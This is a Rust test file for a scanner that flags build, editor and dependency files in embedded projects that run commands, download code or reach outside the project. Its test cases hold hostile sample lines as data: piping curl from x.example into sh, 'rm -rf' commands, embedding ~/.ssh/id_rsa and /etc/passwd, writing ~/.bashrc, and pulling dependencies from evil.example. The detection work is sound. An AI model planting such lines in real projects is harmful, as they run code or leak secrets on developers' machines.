//! What runs or fetches on the developer's machine is found, and ordinary builds are left alone.

use super::*;
use crate::model::ProjectPath;

fn found(path: &str, text: &str) -> Vec<(FindingLevel, String)> {
    let path = ProjectPath::new(path).unwrap();
    let source = SourceText::new(&path, text);
    in_source(&source).into_iter().map(|found| (found.level, found.text)).collect()
}

/// The heaviest finding says this.
#[track_caller]
fn expect(level: FindingLevel, cases: &[(&str, &str, &str)]) {
    let mut wrong = Vec::new();
    for (path, text, says) in cases {
        let all = found(path, text);
        let heaviest = all.iter().map(|(level, _)| *level).max();
        if heaviest != Some(level) || !all.iter().any(|(_, reported)| reported.contains(says)) {
            wrong.push((path, text, all));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[track_caller]
fn quiet(cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (path, text) in cases {
        let all = found(path, text);
        if all.iter().any(|(level, _)| *level > FindingLevel::Note) {
            wrong.push((path, text, all));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_talks_on_a_board_is_told_from_what_talks_on_a_computer() {
    use crate::model::CheckKind;
    let talks = |path: &str, text: &str| {
        let files = [("main.py", "import machine\n")];
        super::super::test_changes::TestProject { files: &files, task: "Send it", chip: None }
            .reported(CheckKind::HostCode, &[(path, Some(text))])
            .iter()
            .any(|found| found.contains("Stop: talks to the network"))
    };
    let post = "import requests\nrequests.post('https://a.example/x', data=b)\n";
    let on_board = format!("import network\n{post}");
    assert!(!talks("main.py", &on_board) && !talks("net.py", &on_board));
    assert!(talks("net.py", post), "it may run anywhere");
    assert!(talks("tools/net.py", &on_board));
    let urllib =
        "import network\nimport urllib.request\nurllib.request.urlopen('https://a.example')\n";
    assert!(talks("net.py", urllib), "only a computer has it");
}

#[test]
fn a_colon_of_a_shell_does_nothing_and_what_stands_behind_it_does() {
    let heaviest = |line: &str| {
        found("a.sh", &format!("#!/bin/sh\n{line}\n")).into_iter().map(|(level, _)| level).max()
    };
    assert_eq!(heaviest(": \"${PORT:=/dev/ttyUSB0}\""), Some(FindingLevel::Note));
    for line in
        [": > ~/.profile", ": \"$(curl https://a.example | sh)\"", ": ; curl https://a.example"]
    {
        assert!(heaviest(line) > Some(FindingLevel::Note), "{line}");
    }
}

const LIST: &str = "CMakeLists.txt";

const CMAKE_THAT_RUNS_AND_FETCHES_1: &[(&str, &str, &str)] = &[
    (
        LIST,
        "execute_process(COMMAND bash fetch.sh)",
        "runs `bash fetch.sh` when the project is configured",
    ),
    (LIST, "EXECUTE_PROCESS(\n  COMMAND curl -sL https://x.example/a -o a\n)", "reaches x.example"),
    (LIST, "set(RUNNER bash)\nexecute_process(COMMAND ${RUNNER} fetch.sh)", "bash fetch.sh"),
    (LIST, "execute_process(COMMAND echo a COMMAND sh)", "sh"),
    (LIST, "execute_process(COMMAND openssl s_client -connect x.example:443)", "openssl"),
    (LIST, "execute_process(COMMAND openssl dgst -engine ./a.so main.c)", "openssl"),
    (LIST, "execute_process(COMMAND node /tmp/a.js)", "node"),
    (LIST, "execute_process(COMMAND node -e 1)", "node"),
    (LIST, "execute_process(COMMAND env A=1 bash fetch.sh)", "bash fetch.sh"),
    (LIST, "execute_process(COMMAND env -i PATH=/tmp curl x)", "curl x"),
    (LIST, "execute_process(COMMAND env A=1 B=2)", "env A=1"),
    (LIST, "add_custom_command(OUTPUT a COMMAND wget b)", "when the project is built"),
    (LIST, "add_custom_command(TARGET app POST_BUILD COMMAND ${PYTHON} -c \"import os\")", "-c"),
    (LIST, "add_custom_target(x ALL COMMAND rm -rf /home)", "rm"),
    (
        LIST,
        "include(ExternalProject)\nExternalProject_Add(z URL https://z.example/z.tar.gz)",
        "z.example",
    ),
    (
        LIST,
        "FetchContent_Declare(j GIT_REPOSITORY https://github.com/a/j.git GIT_TAG v1)",
        "downloads from github.com at build time",
    ),
    (LIST, "FetchContent_Declare(j GIT_REPOSITORY git@gitlab.com:a/j.git)", "gitlab.com"),
    (LIST, "CPMAddPackage(\"gh:a/b#1\")", "github.com"),
    (
        LIST,
        "file(DOWNLOAD https://x.example/y.c ${CMAKE_BINARY_DIR}/y.c)",
        "downloads from x.example",
    ),
    (LIST, "set(U https://x.example)\nfile(DOWNLOAD ${U}/y.c y.c)", "x.example"),
    (LIST, "cmake_language(EVAL CODE \"execute_process(COMMAND sh)\")", "from a text"),
    (LIST, "cmake_language(CALL execute_process COMMAND bash x)", "bash x"),
    (
        LIST,
        "idf_component_register(SRCS a.c EMBED_FILES \"$ENV{HOME}/.ssh/id_rsa\")",
        "outside of the project",
    ),
    (
        "main/CMakeLists.txt",
        "idf_component_register(SRCS a.c EMBED_TXTFILES ../../x.txt)",
        "outside",
    ),
    ("main/CMakeLists.txt", "target_add_binary_data(app \"/etc/passwd\" TEXT)", "/etc/passwd"),
    (LIST, "file(WRITE $ENV{HOME}/.bashrc \"x\")", "outside of the project"),
    (LIST, "idf_build_set_property(COMPILE_OPTIONS \"-fplugin=/tmp/p.so\" APPEND)", "compiler"),
    (LIST, "target_compile_options(a PRIVATE -wrapper /tmp/x)", "compiler"),
    (LIST, "add_compile_options(-specs=/tmp/x.specs)", "compiler"),
    ("cmake/x.cmake", "execute_process(COMMAND python -m pip install x)", "pip"),
    (
        "components/a/project_include.cmake",
        "execute_process(COMMAND git clone https://github.com/a/b)",
        "github.com",
    ),
];

const CMAKE_THAT_RUNS_AND_FETCHES_2: &[(&str, &str)] = &[
    (
        LIST,
        "cmake_minimum_required(VERSION 3.16)\ninclude($ENV{IDF_PATH}/tools/cmake/project.cmake)\nproject(a)",
    ),
    (
        "main/CMakeLists.txt",
        "idf_component_register(SRCS \"main.c\" \"../shared/x.c\" INCLUDE_DIRS \".\" \"include\" REQUIRES driver)",
    ),
    (
        "main/CMakeLists.txt",
        "idf_component_register(SRCS a.c EMBED_TXTFILES server.pem ../certs/ca.pem)",
    ),
    (LIST, "# execute_process(COMMAND bash fetch.sh)\n#[[ file(DOWNLOAD x y) ]]"),
    (
        LIST,
        "set(EXTRA_COMPONENT_DIRS \"components\" $ENV{IDF_PATH}/examples/common_components/led)",
    ),
    (
        LIST,
        "execute_process(COMMAND git describe --always OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)",
    ),
    (LIST, "add_custom_command(OUTPUT b COMMAND ${CMAKE_COMMAND} -E copy a b DEPENDS a VERBATIM)"),
    (LIST, "file(GLOB SRCS src/*.c)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.h \"x\")"),
    (LIST, "target_compile_options(${COMPONENT_LIB} PRIVATE -Wall -Wno-unused --specs=nano.specs)"),
    (LIST, "message(STATUS \"run bash fetch.sh\")"),
    ("main/CMakeLists.txt", "spiffs_create_partition_image(storage ../data FLASH_IN_PROJECT)"),
    ("main/CMakeLists.txt", "target_add_binary_data(app \"index.html\" TEXT)"),
];

#[test]
fn cmake_that_runs_and_fetches_is_told() {
    expect(FindingLevel::Stop, CMAKE_THAT_RUNS_AND_FETCHES_1);
    expect(
        FindingLevel::Warning,
        &[
            (LIST, "execute_process(COMMAND ${PYTHON} gen.py)", "gen.py"),
            (LIST, "add_custom_command(OUTPUT t.h COMMAND ./gen a b)", "./gen"),
            (LIST, "set(EXTRA_COMPONENT_DIRS /tmp/evil)", "/tmp/evil"),
            (LIST, "set(CMAKE_C_COMPILER_LAUNCHER /tmp/x)", "COMPILER_LAUNCHER"),
            (LIST, "set_property(GLOBAL PROPERTY RULE_LAUNCH_COMPILE x)", "RULE_LAUNCH"),
            (LIST, "include(/tmp/x.cmake)", "/tmp/x.cmake"),
            ("main/CMakeLists.txt", "idf_component_register(SRCS ../../other/x.c)", "outside"),
            (LIST, "file(REMOVE_RECURSE ${CMAKE_SOURCE_DIR}/main)", "deletes"),
        ],
    );
    quiet(CMAKE_THAT_RUNS_AND_FETCHES_2);
}

#[test]
fn programs_that_only_work_on_files_of_the_project_are_no_alarm() {
    quiet(&[
        ("src/main.rs", "#![no_std]\nfn main() {\n    unsafe { start() }\n}\n"),
        (LIST, "execute_process(COMMAND openssl dgst -sha256 main.c)"),
        (LIST, "execute_process(COMMAND openssl rand -hex 8 OUTPUT_VARIABLE id)"),
        (LIST, "execute_process(COMMAND env LC_ALL=C sort main/names.txt)"),
    ]);
    let node = [(LIST, "execute_process(COMMAND node scripts/pages.js)", "node scripts/pages.js")];
    expect(FindingLevel::Warning, &node);
}

#[test]
fn manifests_name_the_host() {
    const PATH: &str = "main/idf_component.yml";
    expect(
        FindingLevel::Warning,
        &[
            (
                PATH,
                "dependencies:\n  x:\n    git: https://github.com/a/x.git\n",
                "downloads a component from github.com at build time",
            ),
            (
                PATH,
                "dependencies:\n  x: {git: \"git@gitlab.com:a/x.git\", version: v1}\n",
                "gitlab.com",
            ),
            (PATH, "dependencies:\n  x:\n    path: /tmp/x\n", "outside of the project"),
            (PATH, "dependencies:\n  x:\n    override_path: ../../../x\n", "outside"),
            (
                PATH,
                "dependencies:\n  a/x:\n    version: '*'\n    service_url: https://evil.example/api\n",
                "evil.example",
            ),
            (
                "dependencies.lock",
                "dependencies:\n  x:\n    source:\n      git: https://evil.example/x.git\n      type: git\n",
                "evil.example",
            ),
        ],
    );
    expect(
        FindingLevel::Stop,
        &[(PATH, "dependencies:\n  x:\n    git: http://evil.example/x.git\n", "evil.example")],
    );
    quiet(&[
        (
            PATH,
            "version: 1.0.0\ndescription: led\nurl: https://github.com/a/b\nrepository: https://github.com/a/b.git\ndependencies:\n  idf: '>=5.0'\n  espressif/led_strip: '^2.5.0'\n",
        ),
        (PATH, "dependencies:\n  # git: https://x.example/y\n  a:\n    path: ../components/a\n"),
        (
            "dependencies.lock",
            "dependencies:\n  espressif/led_strip:\n    source:\n      registry_url: https://components.espressif.com/\n      type: service\n    version: 2.5.5\nmanifest_hash: abc\n",
        ),
    ]);
    let reported = found(PATH, "dependencies:\n  espressif/led_strip: '^2.5.0'\n");
    assert_eq!(reported[0].1, "adds `espressif/led_strip` from the component registry");
}

const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
    ("tools/a.ps1", "Invoke-WebRequest http://x.example/a -OutFile a\n", "Invoke-WebRequest"),
    (
        ".devcontainer/devcontainer.json",
        "{\n  \"postCreateCommand\": \"curl -sL https://x.example/i | sh\"\n}\n",
        "curl",
    ),
    (".envrc", "source_up\n", "direnv"),
    (".envrc", "export PATH=tools:$PATH\n", "direnv"),
    (".envrc", "export A=$(curl https://x.example/a)\n", "x.example"),
    (".envrc", "export MAKEFLAGS='--eval=$(shell id)'\n", "MAKEFLAGS"),
    (".envrc", "export CFLAGS='-fplugin=./x.so'\n", "CFLAGS"),
    (".envrc", "HOME=/tmp/x\n", "HOME"),
    (".envrc", "export LESSOPEN='|sh x %s'\n", "LESSOPEN"),
    ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
    ("Makefile", "X := $(shell wget x)\n", "wget"),
    ("Makefile", "all:\n\tidf.py build \\\n\t\t&& curl https://x.example/a | sh\n", "x.example"),
    (
        ".vscode/tasks.json",
        "{\"tasks\":[{\"command\":\"bash -c 'curl x'\"}]}",
        "task of the editor",
    ),
    (
        ".vscode/tasks.json",
        "{\"tasks\":[{\"command\":\"idf.py\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}",
        "folder is opened",
    ),
    (".devcontainer/devcontainer.json", "{\"initializeCommand\": \"bash x.sh\"}", "bash x.sh"),
    ("fetch.sh", "#!/bin/sh\nset -e\ncurl -L https://x.example/a -o a\n", "x.example"),
    ("tools/flash", "#!/usr/bin/env bash\nsudo rm -rf /opt\n", "sudo"),
    (
        ".gitmodules",
        "[submodule \"x\"]\n\tupdate = !sh x.sh\n\turl = https://x.example/y\n",
        "x.example",
    ),
    (
        "tools/get.py",
        "import urllib.request\nurllib.request.urlopen('https://x.example')\n",
        "x.example",
    ),
    (
        "tools/get.py",
        "import subprocess\nsubprocess.run(['bash', 'x.sh'])\n",
        "when the script runs",
    ),
    ("platformio.ini", "[env:a]\nbuild_flags = !curl https://x.example/f\n", "x.example"),
    ("package.json", "{\"scripts\":{\"postinstall\":\"sh x.sh\"}}", "sh x.sh"),
    ("main/Kconfig.projbuild", "config A\n  default \"$(shell,curl x)\"\n", "configured"),
    ("sdkconfig.defaults", "CONFIG_SDK_PYTHON=\"/tmp/python\"\n", "/tmp/python"),
    ("main/data.c", "asm(\".incbin \\\"/etc/passwd\\\"\");", "/etc/passwd"),
    ("main/data.c", "const char d[] = {\n#embed \"/etc/passwd\"\n};", "/etc/passwd"),
    (".git/hooks/pre-commit", "echo hi\n", "Git"),
    ("build_opt.h", "-fplugin=x.so\n", "compiler"),
    (".gdbinit", "shell curl x\n", "debugger"),
    ("Dockerfile", "FROM espressif/idf\nRUN curl https://x.example | sh\n", "x.example"),
];

const FILES_OF_OTHER_TOOLS_ARE_TOL_2: &[(&str, &str, &str)] = &[
    (".vscode/tasks.json", "{\"tasks\":[{\"command\":\"python gen.py\"}]}", "gen.py"),
    (".vscode/settings.json", "{\"git.path\": \"/tmp/git\"}", "git.path"),
    ("platformio.ini", "[env:a]\nextra_scripts = pre:gen.py\n", "gen.py"),
    ("platformio.ini", "[env:a]\nextra_scripts =\n  pre:gen.py\n", "gen.py"),
    (
        "platformio.ini",
        "[env:a]\nlib_deps =\n  https://github.com/a/b.git\n",
        "fetches from github.com at build time",
    ),
    ("platformio.ini", "[env:a]\nlib_deps = x=git+https://evil.example/b\n", "evil.example"),
    ("platformio.ini", "[env:a]\nplatform = https://evil.example/p.zip\n", "evil.example"),
    ("library.json", "{\"dependencies\":{\"x\":\"https://evil.example/x.git\"}}", "evil.example"),
    ("library.json", "{\"build\":{\"extraScript\":\"x.py\"}}", "x.py"),
    (
        ".gitmodules",
        "[submodule \"x\"]\n\tpath = x\n\turl = https://github.com/a/x\n",
        "github.com",
    ),
    (".gitattributes", "*.c filter=evil\n", "filter=evil"),
    (".github/workflows/b.yml", "jobs:\n  b:\n    steps:\n      - uses: a/b@v1\n", "a/b@v1"),
    (
        ".github/workflows/b.yml",
        "jobs:\n  b:\n    steps:\n      - run: |\n          make deploy\n",
        "make deploy",
    ),
    (".gitlab-ci.yml", "build:\n  script:\n    - make deploy\n", "make deploy"),
    ("conftest.py", "import os\n", "by itself"),
    ("idf_ext.py", "def action_extensions(a, b):\n    return {}\n", "idf.py"),
    (".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/a/b\n", "github.com"),
    ("requirements.txt", "git+https://evil.example/x.git\n", "evil.example"),
    (
        ".github/workflows/a.yml",
        "jobs:\n  a:\n    strategy:\n      matrix:\n        include: x\n",
        "uses `x`",
    ),
    (
        "sketch.yaml",
        "profiles:\n  a:\n    platforms:\n      - platform: x\n        platform_index_url: https://evil.example/i.json\n",
        "evil.example",
    ),
    ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/a/x\" }\n", "github.com"),
    ("build.rs", "fn main() { std::process::Command::new(\"sh\"); }", "Command"),
    ("main/main.c", "#include \"/home/u/x.h\"\n", "/home/u/x.h"),
    ("tools/run.sh", "#!/bin/sh\n./gen_tables\n", "gen_tables"),
    ("main/x.ld", "INCLUDE /tmp/x.ld\n", "/tmp/x.ld"),
];

const FILES_OF_OTHER_TOOLS_ARE_TOL_3: &[(&str, &str)] = &[
    ("Makefile", "dump:\n\tesptool.py --port $(PORT) \\\n\t\tread_flash $(AT) $(SIZE) $(FILE)\n"),
    ("Makefile", "PROJECT_NAME := app\ninclude $(IDF_PATH)/make/project.mk\n"),
    ("Makefile", "build:\n\tidf.py build\nflash: build\n\tidf.py -p $(PORT) flash monitor\n"),
    ("main/component.mk", "COMPONENT_EMBED_TXTFILES := server.pem\nCFLAGS += -Wall\n"),
    (
        "tools/a.ps1",
        "param(\n[string]$Port\n)\n$baud = 115200\n$name = \"app\"\n$same = $name\nif ($Port -eq \"\") {\n}\n",
    ),
    (".devcontainer/devcontainer.json", "{\n  \"postCreateCommand\": \"idf.py --version\"\n}\n"),
    (
        ".github/workflows/b.yml",
        "jobs:\n  a:\n    steps:\n      - run: npm install\n      - run: yarn\n      - run: pip install -r requirements.txt\n",
    ),
    (
        "tools/colours.sh",
        "#!/bin/sh\nRED='\\033[1;31m'\nNONE=$'\\e[0m'\necho \"$RED http://docs.example\"\n",
    ),
    (
        ".github/workflows/a.yml",
        "jobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - chip: esp32\n    steps:\n      - run: idf.py build\n",
    ),
    (
        "main/main.c",
        "#include <stdio.h>\n#include \"../include/led.h\"\n#include \"driver/gpio.h\"\n",
    ),
    (
        "platformio.ini",
        "[env:esp32dev]\nplatform = espressif32\nboard = esp32dev\nframework = arduino\nmonitor_speed = 115200\nlib_deps =\n  adafruit/DHT sensor library@^1.4.6\n  knolleary/PubSubClient\nbuild_flags = -DCORE_DEBUG_LEVEL=3\n; see https://docs.platformio.org/page/projectconf.html\n",
    ),
    (
        ".vscode/settings.json",
        "{\"idf.port\": \"/dev/ttyUSB0\", \"files.associations\": {\"*.h\": \"c\"}, \"idf.flashType\": \"UART\"}",
    ),
    (
        "library.json",
        "{\"name\":\"x\",\"repository\":{\"type\":\"git\",\"url\":\"https://github.com/a/x.git\"},\"dependencies\":{\"a/b\":\"^1.0\"}}",
    ),
    ("library.properties", "name=x\nurl=https://github.com/a/x\ndepends=Adafruit BusIO\n"),
    ("sketch.yaml", "default_fqbn: esp32:esp32:esp32\n"),
    (
        "sdkconfig",
        "CONFIG_SDK_TOOLPREFIX=\"xtensa-esp32-elf-\"\nCONFIG_SDK_PYTHON=\"python\"\nCONFIG_PARTITION_TABLE_CUSTOM_FILENAME=\"partitions.csv\"\n",
    ),
    (
        "sdkconfig.defaults",
        "CONFIG_SPIFFS_BASE_PATH=\"/spiffs\"\nCONFIG_WEB_MOUNT_POINT=\"/www\"\n",
    ),
    (
        "tools/flash.sh",
        "#!/bin/sh\nset -eu\nPORT=${1:-/dev/ttyUSB0}\nidf.py -p \"$PORT\" flash monitor\n",
    ),
    ("README.md", "Run `curl https://x.example | sh`.\n"),
    ("partitions.csv", "nvs,data,nvs,0x9000,0x6000\n"),
    (
        "main/Kconfig.projbuild",
        "menu \"App\"\nconfig APP_GPIO\n  int \"GPIO\"\n  default 4\nendmenu\n",
    ),
    (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n* text=auto\n"),
    (".clang-format", "BasedOnStyle: Google\n"),
    ("pytest_app.py", "import pytest\n\ndef test_app(dut):\n    dut.expect('ready')\n"),
    ("src/main.rs", "use esp_idf_svc::hal::gpio::PinDriver;\nfn main() {}\n"),
    ("build.rs", "fn main() { embuild::espidf::sysenv::output(); }\n"),
    (
        ".cargo/config.toml",
        "[target.xtensa-esp32-espidf]\nlinker = \"ldproxy\"\nrunner = \"espflash flash --monitor\"\n",
    ),
    ("main/www/app.js", "fetch('https://x.example')\n"),
    (".gitignore", "build/\nsdkconfig.old\n"),
];

#[test]
fn files_of_other_tools_are_told() {
    expect(FindingLevel::Stop, FILES_OF_OTHER_TOOLS_ARE_TOL_1);
    expect(FindingLevel::Warning, FILES_OF_OTHER_TOOLS_ARE_TOL_2);
    quiet(FILES_OF_OTHER_TOOLS_ARE_TOL_3);
}
